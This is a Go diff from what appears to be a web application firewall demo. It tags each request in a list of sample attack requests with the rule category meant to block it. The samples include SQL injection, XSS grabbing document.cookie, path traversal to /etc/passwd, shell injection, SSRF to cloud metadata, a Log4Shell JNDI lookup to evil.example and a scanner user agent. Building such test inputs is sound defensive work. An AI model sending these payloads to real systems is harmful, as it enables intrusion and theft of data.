@@ -37,20 +37,22 @@ type demoRequest struct {
 	body   string
 	ctype  string
 	header [2]string
+	// category is the category of the rule an attack should be blocked by.
+	category string
 }
 
 var demoRequests = []demoRequest{
 	{what: "normal search", method: "GET", target: "/search?q=running+shoes&page=2"},
 	{what: "normal JSON order", method: "POST", target: "/orders", body: `{"item":"sku-1234","quantity":2,"note":"Leave it with O'Brien at the front desk"}`, ctype: "application/json"},
 	{what: "normal comment with SQL words", method: "POST", target: "/comments", body: "text=Please+select+the+best+option+and+drop+me+a+line", ctype: "application/x-www-form-urlencoded"},
-	{what: "SQL injection in the query", method: "GET", target: "/search?q=1%27%20OR%20%271%27%3D%271%27%20--%20"},
-	{what: "UNION-based SQL injection in JSON", method: "POST", target: "/orders", body: `{"item":"1 UNION SELECT username, password FROM users--","quantity":1}`, ctype: "application/json"},
-	{what: "reflected XSS", method: "GET", target: "/search?q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E"},
-	{what: "path traversal", method: "GET", target: "/files?name=..%2F..%2F..%2Fetc%2Fpasswd"},
-	{what: "shell injection", method: "POST", target: "/comments", body: "text=hello%3B+cat+%2Fetc%2Fpasswd", ctype: "application/x-www-form-urlencoded"},
-	{what: "SSRF to cloud metadata", method: "GET", target: "/fetch?url=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F"},
-	{what: "Log4Shell in a header", method: "GET", target: "/search?q=ok", header: [2]string{"X-Api-Version", "${jndi:ldap://evil.example/a}"}},
-	{what: "scanner user agent", method: "GET", target: "/", header: [2]string{"User-Agent", "sqlmap/1.7.2#stable (https://sqlmap.org)"}},
+	{what: "SQL injection in the query", category: "sqli", method: "GET", target: "/search?q=1%27%20OR%20%271%27%3D%271%27%20--%20"},
+	{what: "UNION-based SQL injection in JSON", category: "sqli", method: "POST", target: "/orders", body: `{"item":"1 UNION SELECT username, password FROM users--","quantity":1}`, ctype: "application/json"},
+	{what: "reflected XSS", category: "xss", method: "GET", target: "/search?q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E"},
+	{what: "path traversal", category: "lfi", method: "GET", target: "/files?name=..%2F..%2F..%2Fetc%2Fpasswd"},
+	{what: "shell injection", category: "rce", method: "POST", target: "/comments", body: "text=hello%3B+id%3B+uname+-a", ctype: "application/x-www-form-urlencoded"},
+	{what: "SSRF to cloud metadata", category: "ssrf", method: "GET", target: "/fetch?url=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F"},
+	{what: "Log4Shell in a header", category: "jndi", method: "GET", target: "/search?q=ok", header: [2]string{"X-Api-Version", "${jndi:ldap://evil.example/a}"}},
+	{what: "scanner user agent", category: "scanner", method: "GET", target: "/", header: [2]string{"User-Agent", "sqlmap/1.7.2#stable (https://sqlmap.org)"}},
 	{what: "normal health check", method: "GET", target: "/healthz"},
 }
 
